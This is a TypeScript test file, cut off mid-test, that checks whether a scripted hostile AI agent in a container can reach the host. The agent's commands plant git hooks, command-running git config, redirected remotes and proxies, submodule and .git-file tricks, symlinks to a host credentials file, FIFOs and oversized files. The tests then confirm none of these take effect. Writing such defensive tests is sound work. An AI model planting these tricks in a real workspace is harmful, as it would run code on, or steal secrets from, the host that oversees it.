import { execFileSync } from 'node:child_process';
import { randomBytes } from 'node:crypto';
import {
  chmodSync, closeSync, constants, lstatSync, mkdirSync, mkdtempSync, openSync, readdirSync, readFileSync, symlinkSync, writeFileSync,
} from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { createEffectActivities } from '../../activities/effect-activities';
import { createContainerStations, type ContainerStationSpec } from '../../activities/stations/container-station';
import { createImplementationStations } from '../../activities/stations/code-change/implementation-stations';
import { STATION_RESULT_BUDGET_BYTES } from '../../activities/stations/station-result-bound';
import type { ModelConnection } from '../../src/config/model-configuration';
import type { ServiceConfig } from '../../src/config/service-config';
import { createGitRemotes, runGit } from '../../src/containers/git-remote';
import { resolvePodmanAccount } from '../../src/containers/podman-account';
import { createLogger } from '../../src/logging/logger';
import { startModelSimulator, type ChatCompletionRequest, type ModelSimulator, type ScriptedReply } from '../../src/sandbox/model-simulator/model-simulator';
import { gitIn } from '../../src/sandbox/scmhost-simulator/git-smart-http';
import { startScmhostSimulator, type ScmhostSimulator } from '../../src/sandbox/scmhost-simulator/scmhost-simulator';
import type { EffectAttemptResult, EffectOperation } from '../../workflows/effects/effect-types';
import { STATION_FAILURE_TYPE, type StationFailureDetails, type StationInput, type StationResult } from '../../workflows/runtime/station-types';
import { removeTree } from '../../src/containers/remove-tree';
import { ensureContainerImage } from '../helpers/container-image';
import { startHostTripwires, type HostTripwires } from '../helpers/host-tripwires';

/**
 * A hostile agent in a real task container (real podman, real git, the scmhost simulator's smart HTTP): everything it
 * leaves in the workspace and the run folder is data the host must not execute, follow or trust. Each test scripts
 * the model so the agent plants one family of attacks with `run_command`, lets the station commit and the `git.push`
 * effect push, and then checks only what can be seen from outside: tripwires only the host can trip (a host-only
 * folder and a loopback listener the network-less container cannot reach), a secret host file that must not show up
 * in results, errors, logs, records or pushed commits, the ownership of host files, what reached the model upstream,
 * and the pushed commit itself.
 */

const SCM_TOKEN = 'ghp_hostileAgentTestToken0123456789abcdXYZ';
const OPENAI_KEY = 'sk-proxyonly-hostile-0123456789abcdefgh';
const TRACKER_TOKEN = 'tracker-token-hostile-agent-never-42';
/** What a payload run on the host could read from the worker's environment. */
const WORKER_SECRETS = { SCMHOST_TOKEN: SCM_TOKEN, OPENAI_API_KEY: OPENAI_KEY, TRACKER_API_TOKEN: TRACKER_TOKEN };
const REPO = 'acme/app';
const LINKS_REPO = 'acme/links';
const HOST_SECRET = `host-secret-${randomBytes(12).toString('hex')}`;

/**
 * A host credentials file. It is one line of JSON carrying, besides its key, every field the host expects in an
 * agent result, a transcript line and a review cycle: so a host that reads it where it expected one of those (through
 * a link the agent planted) takes it for real and shows the secret, instead of failing on a parse error and hiding the
 * fact that it read a host file.
 */
const SECRET_DOCUMENT = `${JSON.stringify({
  private_key: HOST_SECRET,
  status: 'completed', steps: 1, tool_calls: 1, usage: { input_tokens: 1, output_tokens: 1 }, outputs_missing: [],
  review: { verdict: 'APPROVED', cycles: 1 }, final_text: HOST_SECRET, message: HOST_SECRET, first_tool_call_ms: 1,
  at: '2026-01-01T00:00:00.000Z', pass: 'skill', tool: 'run_command', input: HOST_SECRET, output: HOST_SECRET, ms: 1,
  cycle: 1, max_cycles: 1, verdict: 'APPROVED', feedback: HOST_SECRET, skill: 'workspace-task', elapsed_seconds: 1, timestamp: '2026-01-01T00:00:00.000Z',
})}\n`;

/** Every hook name git knows; all are planted executable wherever a hook folder can be. */
const HOOKS = [
  'applypatch-msg', 'pre-applypatch', 'post-applypatch', 'pre-commit', 'pre-merge-commit', 'prepare-commit-msg', 'commit-msg', 'post-commit',
  'pre-rebase', 'post-checkout', 'post-merge', 'pre-push', 'pre-receive', 'update', 'proc-receive', 'post-receive', 'post-update',
  'reference-transaction', 'push-to-checkout', 'pre-auto-gc', 'post-rewrite', 'sendemail-validate', 'fsmonitor-watchman', 'post-index-change',
  'p4-changelist', 'p4-prepare-changelist', 'p4-post-changelist', 'p4-pre-submit',
];

const connection = { name: 'sim', backend: 'openai-compatible', allowed_models: ['agent-model'], capabilities: ['tools'], max_output_tokens: 4096 } as unknown as ModelConnection;

type StationError = Error & { type?: string; details?: unknown[] };
interface Run {
  result?: StationResult;
  error?: StationError;
  /** Whether the station returned or threw within the bound. */
  settled: boolean;
  ms: number;
  /** How far the worker process's resident memory rose above where it was when the station started. */
  rssGrowthBytes: number;
  pending: Promise<{ result?: StationResult; error?: StationError }>;
}

interface StationOptions {
  modelUrl?: string;
  timeoutSeconds?: number;
  recordPolledFiles?: ServiceConfig['autoReview']['recordPolledFiles'];
  recordDir?: string;
}

/** Shell single quotes. */
const sq = (text: string) => `'${text.replace(/'/g, `'\\''`)}'`;
/** A shell command writing `content` to `path` byte for byte (base64: no quoting to get wrong). */
const writeCmd = (path: string, content: string, mode = '644') =>
  `mkdir -p "$(dirname ${sq(path)})" && printf %s ${Buffer.from(content).toString('base64')} | base64 -d > ${sq(path)} && chmod ${mode} ${sq(path)}`;
/** The agent's script: `set -e`, the commands, and a marker that proves the whole script ran. */
const hostile = (...lines: string[]) => ['set -e', ...lines, 'echo PLANTED'].join('\n');
const MiB = 1024 * 1024;
/** Cycle files per poll in the race test: each is one more try at the window between the host's check and its open. */
const RACE_CYCLES = 50;

function input(key: string, overrides: Partial<StationInput> = {}): StationInput {
  return {
    ticket_key: key, project_key: key.split('-')[0]!, issue_type: 'Task', workflow_kind: 'task' as StationInput['workflow_kind'],
    run_id: `run-${key.toLowerCase()}-0001`, node: 'execute_task_changes', station: 'implement', visit: 1,
    params: { repository: REPO }, artifacts: {}, outputs: {}, token_budget: 200_000, ...overrides,
  };
}

const taskSpec = (outputs: string[] = []): ContainerStationSpec => ({
  skill: 'workspace-task',
  task: () => 'Make the change the ticket asks for.',
  outputs: () => outputs,
  commitMessage: (i) => `[${i.ticket_key}] Hostile agent change`,
});

describe('a hostile agent in a real container cannot reach the host', () => {
  let scm: ScmhostSimulator;
  let model: ModelSimulator;
  let tripwires: HostTripwires;
  let workDir: string;
  /** Host-only files the agent aims at: the secret file, a secret folder, victim repositories, root-owned targets. */
  let hostDir: string;
  let secretFile: string;
  let secretDir: string;
  const logs: string[] = [];
  const logger = createLogger({ level: 'debug', write: (line) => logs.push(line) });
  const saved = { ...process.env };

  const remotes = () => createGitRemotes({ scmhostApiUrl: scm.url, scmhostToken: SCM_TOKEN });
  const bare = (repo = REPO) => scm.git.repositoryPath(repo);
  const branchOf = (key: string) => `service/${key.toLowerCase()}`;

  function station(spec: ContainerStationSpec, options: StationOptions = {}) {
    const config = {
      container: {
        image: 'service-dev:latest', memoryLimit: '1g', cpuLimit: 1, timeoutSeconds: options.timeoutSeconds ?? 120, pidsLimit: 512, egressRepos: [], workDir,
        podmanUser: 'service-podman', agentMaxSteps: 20, agentCommandTimeoutSeconds: 60,
      },
      autoReview: { maxRetries: 3, pollIntervalSeconds: 0.5, recordPolledFiles: options.recordPolledFiles ?? 'copy' },
    };
    return createContainerStations({
      config, logger, account: () => resolvePodmanAccount(), remotes: remotes(), recordDir: options.recordDir,
      resolveModel: async () => ({ key: 'execute_task_changes', target: { connection: 'sim', model: 'agent-model' }, connection: { ...connection, base_url: options.modelUrl ?? model.url }, source: 'deployment_default' }) as never,
    })(spec);
  }

  /** Runs a station to its end or to `boundMs`, whichever comes first, watching the worker's memory meanwhile. */
  async function runStation(spec: ContainerStationSpec, stationInput: StationInput, options: StationOptions = {}, boundMs = 240_000): Promise<Run> {
    const baseline = process.memoryUsage.rss();
    let peak = baseline;
    const sampler = setInterval(() => { peak = Math.max(peak, process.memoryUsage.rss()); }, 10);
    const started = Date.now();
    const pending = station(spec, options)(stationInput).then((result) => ({ result }), (error: unknown) => ({ error: error as StationError }));
    let timer: NodeJS.Timeout | undefined;
    const first = await Promise.race([pending, new Promise<undefined>((resolve) => { timer = setTimeout(() => resolve(undefined), boundMs); })]);
    clearTimeout(timer);
    clearInterval(sampler);
    peak = Math.max(peak, process.memoryUsage.rss());
    return { ...(first ?? {}), settled: first !== undefined, ms: Date.now() - started, rssGrowthBytes: peak - baseline, pending };
  }

  /** The agent runs each command with `run_command`, then says it is done. */
  function scriptAgent(...commands: string[]): void {
    model.reset();
    model.script(...commands.map((command): ScriptedReply => ({ tool_call: { name: 'run_command', arguments: JSON.stringify({ command }) } })), { content: 'Done.' });
  }

  /** The tool results the agent sent back to the model (the last request holds the whole conversation). */
  function toolOutputs(requests: ChatCompletionRequest[] = model.requests): string[] {
    const last = [...requests].reverse().find((request) => request.messages?.some((m) => m.role === 'tool'));
    return (last?.messages ?? []).filter((m) => m.role === 'tool').map((m) => (typeof m.content === 'string' ? m.content : JSON.stringify(m.content)));
  }

  /** The attack was really planted: otherwise every check below would pass for nothing. */
  function expectPlanted(commands: number): void {
    const outputs = toolOutputs();
    expect(outputs, 'the hostile commands the agent ran').toHaveLength(commands);
    for (const output of outputs) {
      expect(output, 'a hostile command failed inside the container, so the attack was not planted').toContain('exit code 0');
      expect(output).toContain('PLANTED');
    }
  }

  function expectNothingRanOnTheHost(): void {
    expect.soft(tripwires.hits(WORKER_SECRETS), 'code the agent planted ran on the host, or the host sent git traffic where the agent pointed it').toEqual([]);
  }

  function expectSettled(run: Run, boundSeconds: number): void {
    expect(run.settled, `the station neither finished nor failed within ${boundSeconds} s`).toBe(true);
    if (run.error) expect(run.error.message.trim().length, 'a station failure must say what went wrong').toBeGreaterThan(0);
  }

  /** Where a secret could surface to a person: the result, the error, the worker's log, plus whatever `more` names. */
  function expectSecretNowhere(run: Run, secret: string, more: Record<string, string> = {}): void {
    const places: Record<string, string> = {
      'the station result': JSON.stringify(run.result ?? null),
      'the station error': run.error ? `${run.error.message}\n${JSON.stringify(run.error.details ?? null)}` : '',
      'the worker log': logs.join('\n'),
      ...more,
    };
    expectAbsent(secret, places, 'the content of a host file the agent linked to was read into');
  }

  /** Names the places of `places` that hold `secret` (never the secret or the place's text: failures stay short). */
  function expectAbsent(secret: string, places: Record<string, string>, message: string): void {
    expect.soft(Object.entries(places).filter(([, text]) => text.includes(secret)).map(([where]) => where), message).toEqual([]);
  }

  async function push(run: Run, key: string): Promise<EffectAttemptResult | undefined> {
    const intent = run.result?.effects?.find((effect) => effect.name === 'push');
    if (!intent) return undefined;
    const effects = createEffectActivities({ logger, git: { remotes: remotes() } });
    return effects.performEffect({ idempotency_key: `${key}:push`, attempt: 1, operation: intent.operation });
  }

  async function pushedTree(key: string, repo = REPO): Promise<Array<{ mode: string; type: string; sha: string; path: string }>> {
    const out = await gitIn(bare(repo), ['ls-tree', '-r', '--full-tree', `refs/heads/${branchOf(key)}`]);
    return out.split('\n').filter(Boolean).map((line) => {
      const [meta = '', path = ''] = line.split('\t');
      const [mode = '', type = '', sha = ''] = meta.split(' ');
      return { mode, type, sha, path };
    });
  }

  /** Every commit message, diff and file content on the pushed branch (empty when nothing was pushed). */
  const pushedHistory = (key: string, repo = REPO) =>
    gitIn(bare(repo), ['log', '-p', '--no-ext-diff', '--no-textconv', '--format=commit %H%n%B', `refs/heads/${branchOf(key)}`]).catch(() => '');

  /**
   * The station committed the agent's ordinary change and the effect pushed it to the real repository; the commit
   * holds no git internals: nothing under a `.git` folder at any depth, no gitlink read from a nested repository
   * the agent made, and none of the agent's `.service/` outputs.
   */
  async function expectChangePushed(run: Run, pushed: EffectAttemptResult | undefined, key: string, file: string, content: string, repo = REPO): Promise<void> {
    expect(run.error?.message, 'the station failed').toBeUndefined();
    const intent = run.result?.effects?.find((effect) => effect.name === 'push');
    expect(intent, 'the station asked for no push although the agent changed a file').toBeDefined();
    expect(pushed?.error ?? null, 'the push effect failed').toBeNull();
    expect(pushed?.status).toBe('succeeded');
    const sha = (intent!.operation as Extract<EffectOperation, { kind: 'git.push' }>).commit_sha;
    expect((await gitIn(bare(repo), ['rev-parse', `refs/heads/${branchOf(key)}`])).trim(), 'the pushed branch head').toBe(sha);
    expect(await gitIn(bare(repo), ['show', `${branchOf(key)}:${file}`]), `${file} in the pushed commit`).toBe(content);
    const tree = await pushedTree(key, repo);
    expect(tree.filter((entry) => /(^|\/)\.git(\/|$)/i.test(entry.path)).map((entry) => entry.path), 'git internals in the pushed commit').toEqual([]);
    expect(tree.filter((entry) => entry.mode === '160000').map((entry) => entry.path), 'gitlinks taken from a repository nested in the workspace').toEqual([]);
    expect(tree.filter((entry) => entry.path === '.service' || entry.path.startsWith('.service/')).map((entry) => entry.path), 'agent outputs in the pushed commit').toEqual([]);
  }

  /** A person's push to `main` of `repo`: files and symbolic links, over the simulator's smart HTTP. */
  async function seed(repo: string, entries: Array<{ path: string; content?: string; link?: string }>): Promise<void> {
    const auth = { username: 'x-access-token', token: SCM_TOKEN };
    const clone = mkdtempSync(join(workDir, 'seed-'));
    await runGit(['clone', '--quiet', `${scm.url}/${repo}.git`, clone], { auth });
    for (const entry of entries) {
      mkdirSync(dirname(join(clone, entry.path)), { recursive: true });
      if (entry.link !== undefined) symlinkSync(entry.link, join(clone, entry.path));
      else writeFileSync(join(clone, entry.path), entry.content ?? '');
    }
    await runGit(['add', '--all'], { cwd: clone });
    await runGit(['-c', 'user.name=t', '-c', 'user.email=t@t', 'commit', '--quiet', '-m', 'seed'], { cwd: clone });
    await runGit(['push', '--quiet', `${scm.url}/${repo}.git`, 'HEAD:main'], { cwd: clone, auth });
  }

  /** A repository on the host the container never sees (a worker's own checkout, say), with one secret commit. */
  function hostRepository(name: string, secret: string): { dir: string; head: string } {
    const dir = join(hostDir, name);
    mkdirSync(dir);
    const git = (...args: string[]) => execFileSync('git', ['-c', 'user.name=host', '-c', 'user.email=host@host', ...args], { cwd: dir, encoding: 'utf8' }).trim();
    git('init', '--quiet', '--initial-branch', 'main');
    writeFileSync(join(dir, 'secret.txt'), `${secret}\n`);
    git('add', 'secret.txt');
    git('commit', '--quiet', '-m', `host only ${secret}`);
    return { dir, head: git('rev-parse', 'HEAD') };
  }

  const repositoryState = (dir: string) => execFileSync('git', ['for-each-ref', '--format=%(refname) %(objectname)'], { cwd: dir, encoding: 'utf8' })
    + execFileSync('git', ['symbolic-ref', 'HEAD'], { cwd: dir, encoding: 'utf8' })
    + execFileSync('git', ['status', '--porcelain', '--untracked-files=all'], { cwd: dir, encoding: 'utf8' });

  /** Opens every FIFO under `root` for writing once, so a host blocked reading one gets an end of file. */
  function releaseFifos(root: string): number {
    let released = 0;
    const walk = (dir: string) => {
      let names: string[];
      try { names = readdirSync(dir); } catch { return; }
      for (const name of names) {
        const path = join(dir, name);
        // Past PATH_MAX (a tree the agent built deeper than that) there is no FIFO the host could have opened.
        let stat;
        try { stat = lstatSync(path, { throwIfNoEntry: false }); } catch { continue; }
        if (stat?.isDirectory()) walk(path);
        else if (stat?.isFIFO()) {
          try { closeSync(openSync(path, constants.O_WRONLY | constants.O_NONBLOCK)); released += 1; } catch { /* no reader */ }
        }
      }
    };
    walk(root);
    return released;
  }

  function filesUnder(root: string): string {
    const texts: string[] = [];
    const walk = (dir: string) => {
      let names: string[];
      try { names = readdirSync(dir); } catch { return; }
      for (const name of names) {
        const path = join(dir, name);
        const stat = lstatSync(path, { throwIfNoEntry: false });
        if (stat?.isDirectory()) walk(path);
        else if (stat?.isFile() && stat.size < 16 * MiB) texts.push(readFileSync(path, 'utf8'));
      }
    };
    walk(root);
    return texts.join('\n');
  }

  beforeAll(async () => {
    ensureContainerImage();
    // Credentials the worker holds: a payload that ran on the host would find them in its environment.
    Object.assign(process.env, { SCMHOST_TOKEN: SCM_TOKEN, OPENAI_API_KEY: OPENAI_KEY, TRACKER_API_TOKEN: TRACKER_TOKEN });
    workDir = mkdtempSync(join(tmpdir(), 'hostile-agent-'));
    chmodSync(workDir, 0o711);
    hostDir = mkdtempSync(join(tmpdir(), 'hostile-host-'));
    // Readable by any host account, so that a host reading through a link as another account would still show it.
    chmodSync(hostDir, 0o755);
    secretFile = join(hostDir, 'credentials.json');
    writeFileSync(secretFile, SECRET_DOCUMENT, { mode: 0o644 });
    secretDir = join(hostDir, 'secret-folder');
    mkdirSync(join(secretDir, 'implement'), { recursive: true, mode: 0o755 });
    writeFileSync(join(secretDir, 'notes.md'), SECRET_DOCUMENT, { mode: 0o644 });
    // Named like review cycles (as another ticket's review records are): cycle 1 for the plain link, 1 to 50 for the race.
    for (let cycle = 1; cycle <= RACE_CYCLES; cycle += 1) writeFileSync(join(secretDir, 'implement', `review_cycle_${cycle}.json`), SECRET_DOCUMENT, { mode: 0o644 });
    tripwires = await startHostTripwires();
    scm = await startScmhostSimulator({ tokens: { [SCM_TOKEN]: 'service-bot' }, repositories: [REPO, LINKS_REPO] });
    model = await startModelSimulator();
    await seed(REPO, [{ path: 'hello.txt', content: 'hello, world\n' }]);
  }, 600_000);

  beforeEach(() => {
    tripwires?.reset();
    logs.length = 0;
  });

  afterAll(async () => {
    process.env = saved;
    await scm?.close();
    await model?.close();
    await tripwires?.close();
    if (workDir) releaseFifos(workDir);
    // A refused station leaves its folder, which can hold a tree deeper than fs.rm removes.
    for (const dir of [workDir, hostDir]) if (dir) await removeTree(dir);
  });

  describe('host git never runs what the agent planted in the workspace', () => {
    it('ignores hooks of every name in .git/hooks (and an emptied .git/info/exclude)', async () => {
      const key = 'HOOK-1';
      scriptAgent(hostile(
        `printf 'hello, hooks\\n' > hello.txt`,
        ...HOOKS.map((hook) => writeCmd(`.git/hooks/${hook}`, tripwires.script(`hook-${hook}`), '755')),
        // The host's own ignore rule for the agent's outputs, removed.
        ': > .git/info/exclude',
        `mkdir -p .service && printf 'private notes\\n' > .service/private.md`,
        'ls .git/hooks | wc -l',
      ));
      const run = await runStation(taskSpec(), input(key));
      expectPlanted(1);
      expectSettled(run, 240);
      const pushed = await push(run, key);
      expectNothingRanOnTheHost();
      await expectChangePushed(run, pushed, key, 'hello.txt', 'hello, hooks\n');
    }, 360_000);

    it('ignores git configuration that runs commands: core.hooksPath, core.fsmonitor, include.path, includeIf, gpg, ssh, pager, editor, credential helper', async () => {
      const key = 'CONF-1';
      const gpg = tripwires.script('gpg-program', [
        // A signature git accepts, so that the commit goes through and the other tripwires get their turn too.
        `printf '\\n[GNUPG:] SIG_CREATED D 1 8 00 1700000000 0\\n' >&2`,
        `printf -- '-----BEGIN PGP SIGNATURE-----\\n\\nAA==\\n-----END PGP SIGNATURE-----\\n'`,
        '',
      ].join('\n'));
      scriptAgent(hostile(
        `printf 'hello, config\\n' > hello.txt`,
        ...HOOKS.map((hook) => writeCmd(`.evil/hooks/${hook}`, tripwires.script(`hookspath-${hook}`), '755')),
        writeCmd('.evil/gpg-sign', gpg, '755'),
        // include.path: signing with a planted program.
        writeCmd('.evil/include.cfg', '[commit]\n\tgpgSign = true\n[tag]\n\tgpgSign = true\n[gpg]\n\tprogram = .evil/gpg-sign\n'),
        // includeIf: a clean filter defined in the included file, applied through .git/info/attributes.
        writeCmd('.evil/includeif.cfg', `[filter "evilif"]\n\tclean = "${tripwires.payload('includeif-filter-clean')}; cat"\n\tsmudge = "${tripwires.payload('includeif-filter-smudge')}; cat"\n`),
        writeCmd('.git/info/attributes', '* filter=evilif\n'),
        `git config core.hooksPath .evil/hooks`,
        `git config core.fsmonitor ${sq(tripwires.payload('core-fsmonitor'))}`,
        `git config core.sshCommand ${sq(tripwires.payload('core-sshcommand'))}`,
        `git config core.pager ${sq(tripwires.payload('core-pager'))}`,
        `git config core.editor ${sq(tripwires.payload('core-editor'))}`,
        `git config sequence.editor ${sq(tripwires.payload('sequence-editor'))}`,
        `git config core.askPass ${sq(tripwires.payload('core-askpass'))}`,
        `git config credential.helper ${sq(`!${tripwires.payload('credential-helper')}`)}`,
        `git config gc.auto 1`,
        `git config include.path ../.evil/include.cfg`,
        `git config includeIf.gitdir:workspace/.path ../.evil/includeif.cfg`,
        'git config --list --show-origin | grep -c evil',
      ));
      const run = await runStation(taskSpec(), input(key));
      expectPlanted(1);
      expectSettled(run, 240);
      const pushed = await push(run, key);
      expectNothingRanOnTheHost();
      await expectChangePushed(run, pushed, key, 'hello.txt', 'hello, config\n');
    }, 360_000);

    it('ignores clean, smudge and process filters, diff and merge drivers declared for the agent\'s files', async () => {
      const key = 'FILT-1';
      scriptAgent(hostile(
        `printf 'hello, filters\\n' > hello.txt`,
        `printf 'changes\\n' > CHANGES.md`,
        `printf 'processed\\n' > zz-process.dat`,
        writeCmd('.gitattributes', '* filter=evil diff=evil merge=evil\n*.dat filter=evilproc\n'),
        `git config filter.evil.clean ${sq(`${tripwires.payload('filter-clean')}; cat`)}`,
        `git config filter.evil.smudge ${sq(`${tripwires.payload('filter-smudge')}; cat`)}`,
        `git config filter.evilproc.process ${sq(tripwires.payload('filter-process'))}`,
        `git config diff.evil.textconv ${sq(`${tripwires.payload('diff-textconv')}; cat`)}`,
        `git config diff.evil.command ${sq(tripwires.payload('diff-driver'))}`,
        `git config diff.external ${sq(tripwires.payload('diff-external'))}`,
        `git config merge.evil.driver ${sq(tripwires.payload('merge-driver'))}`,
      ));
      const run = await runStation(taskSpec(), input(key));
      expectPlanted(1);
      expectSettled(run, 240);
      const pushed = await push(run, key);
      expectNothingRanOnTheHost();
      await expectChangePushed(run, pushed, key, 'hello.txt', 'hello, filters\n');
      // The attributes file is content the agent wrote: it may be committed as a plain file.
      expect(await gitIn(bare(), ['show', `${branchOf(key)}:CHANGES.md`])).toBe('changes\n');
    }, 360_000);

    it('ignores submodules: a .gitmodules URL, a nested repository with its own hooks and configuration, recursion settings', async () => {
      const key = 'SUB-1';
      scriptAgent(hostile(
        `printf 'hello, submodules\\n' > hello.txt`,
        'git init -q sub',
        `printf 'nested\\n' > sub/nested.txt`,
        'git -C sub add nested.txt',
        'git -C sub -c user.name=a -c user.email=a@a commit -q -m nested',
        ...HOOKS.map((hook) => writeCmd(`sub/.git/hooks/${hook}`, tripwires.script(`sub-hook-${hook}`), '755')),
        `git -C sub config core.fsmonitor ${sq(tripwires.payload('sub-core-fsmonitor'))}`,
        `git -C sub config remote.origin.url ${tripwires.url}/sub-origin.git`,
        `git -C sub config url.${tripwires.url}/sub-insteadof/.insteadOf ${scm.url}/`,
        writeCmd('.gitmodules', `[submodule "sub"]\n\tpath = sub\n\turl = ${tripwires.url}/gitmodules-sub.git\n[submodule "lib"]\n\tpath = lib\n\turl = ${tripwires.url}/gitmodules-lib.git\n`),
        `git config submodule.sub.url ${tripwires.url}/config-sub.git`,
        `git config submodule.sub.update ${sq(`!${tripwires.payload('submodule-update')}`)}`,
        'git config submodule.active .',
        'git config submodule.recurse true',
        'git config push.recurseSubmodules on-demand',
        'git config fetch.recurseSubmodules yes',
        'git config status.submoduleSummary true',
        'git config diff.submodule log',
        'git add sub .gitmodules 2>/dev/null',
      ));
      const run = await runStation(taskSpec(), input(key));
      expectPlanted(1);
      expectSettled(run, 240);
      const pushed = await push(run, key);
      expectNothingRanOnTheHost();
      await expectChangePushed(run, pushed, key, 'hello.txt', 'hello, submodules\n');
    }, 360_000);

    it('ignores a .git file that points host git at another repository on the host', async () => {
      const key = 'GITF-1';
      const victimSecret = `victim-${randomBytes(8).toString('hex')}`;
      const victim = hostRepository('victim-gitfile', victimSecret);
      const before = repositoryState(victim.dir);
      scriptAgent(hostile(
        `printf 'hello, git file\\n' > hello.txt`,
        'rm -rf .git',
        `printf 'gitdir: %s\\n' ${sq(join(victim.dir, '.git'))} > .git`,
      ));
      const run = await runStation(taskSpec(), input(key));
      expectPlanted(1);
      expectSettled(run, 240);
      const pushed = await push(run, key);
      expect.soft(repositoryState(victim.dir), 'the host repository the .git file named was changed').toBe(before);
      expect.soft(await gitIn(bare(), ['cat-file', '-e', victim.head]).then(() => 'pushed', () => 'absent'), 'the host repository\'s history on the source host').toBe('absent');
      expectAbsent(victimSecret, { 'the pushed commits': await pushedHistory(key) }, 'the host repository\'s content reached the source host in');
      expectNothingRanOnTheHost();
      await expectChangePushed(run, pushed, key, 'hello.txt', 'hello, git file\n');
    }, 360_000);

    it('ignores core.worktree and object alternates that point at host folders and repositories', async () => {
      const key = 'PATH-1';
      const victimSecret = `victim-${randomBytes(8).toString('hex')}`;
      const victim = hostRepository('victim-alternates', victimSecret);
      const exfilSecret = `exfil-${randomBytes(8).toString('hex')}`;
      const exfilDir = join(hostDir, 'exfil');
      mkdirSync(exfilDir, { mode: 0o755 });
      writeFileSync(join(exfilDir, 'stolen.txt'), `${exfilSecret}\n`, { mode: 0o644 });
      scriptAgent(hostile(
        `printf 'hello, host paths\\n' > hello.txt`,
        // A commit whose parent is a host commit the container cannot see: pushing it would need the host's objects.
        'tree=$(git write-tree)',
        `commit=$(printf 'tree %s\\nparent %s\\nauthor a <a@a> 1700000000 +0000\\ncommitter a <a@a> 1700000000 +0000\\n\\nbuilt on a host commit\\n' "$tree" ${victim.head} | git hash-object -t commit -w --stdin)`,
        'git update-ref HEAD "$commit"',
        `printf '%s\\n' ${sq(join(victim.dir, '.git', 'objects'))} > .git/objects/info/alternates`,
        `git config core.worktree ${sq(exfilDir)}`,
      ));
      const run = await runStation(taskSpec(), input(key));
      expectPlanted(1);
      expectSettled(run, 240);
      const pushed = await push(run, key);
      expect.soft(await gitIn(bare(), ['cat-file', '-e', victim.head]).then(() => 'pushed', () => 'absent'), 'the host repository\'s history on the source host').toBe('absent');
      const history = await pushedHistory(key);
      expectAbsent(exfilSecret, { 'the pushed commits': history }, 'a file of a host folder reached the source host in');
      expectAbsent(victimSecret, { 'the pushed commits': history }, 'the host repository\'s content reached the source host in');
      expectNothingRanOnTheHost();
      await expectChangePushed(run, pushed, key, 'hello.txt', 'hello, host paths\n');
      expect((await pushedTree(key)).map((entry) => entry.path)).not.toContain('stolen.txt');
    }, 360_000);

    it('pushes to the real remote with the token, whatever insteadOf, pushInsteadOf, http.proxy or remote URLs the agent configured', async () => {
      const key = 'URL-1';
      scriptAgent(hostile(
        `printf 'hello, redirect\\n' > hello.txt`,
        `git config url.${tripwires.url}/insteadof/.insteadOf ${scm.url}/`,
        `git config url.${tripwires.url}/pushinsteadof/.pushInsteadOf ${scm.url}/`,
        `git config http.proxy ${tripwires.url}`,
        `git config http.${scm.url}/.proxy ${tripwires.url}`,
        `git config remote.origin.url ${tripwires.url}/origin.git`,
        `git config remote.origin.pushurl ${tripwires.url}/origin-push.git`,
        `git config credential.helper ${sq(`!${tripwires.payload('credential-helper')}`)}`,
        'git config --get-regexp "^(url|http|remote)\\." | wc -l',
      ));
      const run = await runStation(taskSpec(), input(key));
      expectPlanted(1);
      expectSettled(run, 240);
      const pushed = await push(run, key);
      expectNothingRanOnTheHost();
      await expectChangePushed(run, pushed, key, 'hello.txt', 'hello, redirect\n');
    }, 360_000);
  });

  describe('outputs and run files are data, read without following links and bounded', () => {
    it('does not read a host file through an output symlink, nor a 2 GiB or 300 MiB sparse output whole', async () => {
      const key = 'OUT-1';
      scriptAgent(hostile(
        `printf 'hello, outputs\\n' > hello.txt`,
        'mkdir -p .service',
        `ln -sfn ${sq(secretFile)} .service/notes.md`,
        'truncate -s 2G .service/huge.md',
        'truncate -s 300M .service/big.md',
        // A link among the changed files: it may be committed as a link, never as the host file's content.
        `ln -sfn ${sq(secretFile)} leak.txt`,
      ));
      const run = await runStation(taskSpec(['.service/notes.md', '.service/huge.md', '.service/big.md']), input(key));
      expectPlanted(1);
      expectSettled(run, 240);
      expectSecretNowhere(run, HOST_SECRET);
      const outputs = ((run.result?.data as { outputs?: Record<string, string> } | undefined)?.outputs) ?? {};
      expect.soft(Object.entries(outputs).filter(([, text]) => text.length > MiB).map(([path, text]) => `${path}: ${text.length} characters`), 'outputs kept whole').toEqual([]);
      expect.soft(JSON.stringify(run.result ?? null).length, 'the size of the station result').toBeLessThan(4 * MiB);
      expect.soft(Math.round(run.rssGrowthBytes / MiB), 'MiB the worker\'s memory grew by while the station read the outputs').toBeLessThan(256);
      if (run.result) await push(run, key);
      expectAbsent(HOST_SECRET, { 'the pushed commits': await pushedHistory(key) }, 'the content of a host file the agent linked to reached the source host in');
    }, 360_000);

    it('does not read a host folder that .service itself links to, nor copy its review cycle into the records', async () => {
      const key = 'OUT-2';
      const recordDir = join(workDir, 'records-out-2');
      scriptAgent(hostile(
        `printf 'hello, service link\\n' > hello.txt`,
        'rm -rf .service',
        `ln -sfn ${sq(secretDir)} .service`,
      ));
      const run = await runStation(taskSpec(['.service/notes.md']), input(key), { recordPolledFiles: 'copy', recordDir });
      expectPlanted(1);
      expectSettled(run, 240);
      if (run.result) await push(run, key);
      expectSecretNowhere(run, HOST_SECRET, { 'the review records': filesUnder(recordDir), 'the pushed commits': await pushedHistory(key) });
    }, 360_000);

    it('finishes although an output and a review cycle file are FIFOs', async () => {
      const key = 'FIFO-1';
      scriptAgent(hostile(
        `printf 'hello, fifo\\n' > hello.txt`,
        'mkdir -p .service/implement',
        'mkfifo .service/pipe.md .service/implement/review_cycle_1.json',
      ));
      const bound = 150;
      const run = await runStation(taskSpec(['.service/pipe.md']), input(key), { timeoutSeconds: 60 }, bound * 1000);
      let releases = 0;
      if (!run.settled) {
        // A host blocked on a FIFO holds a thread of its pool for good: unblock it so the rest of the file runs.
        let done = false;
        void run.pending.then(() => { done = true; });
        const deadline = Date.now() + 120_000;
        while (!done && Date.now() < deadline) {
          releases += releaseFifos(workDir);
          await new Promise((resolve) => setTimeout(resolve, 500));
        }
      }
      expectPlanted(1);
      expect(run.settled, `the station neither finished nor failed within ${bound} s; it went on only after the test opened a FIFO for writing (${releases} times)`).toBe(true);
      expectSettled(run, bound);
    }, 420_000);

    it('does not read a host folder swapped in for the review cycle folder while the host polls it', async () => {
      const key = 'RACE-1';
      // While the container runs, .service/implement flips between a real folder (holding cycle files the host
      // cannot parse, so it tries them again at every poll) and a link to a host folder whose cycle files hold the
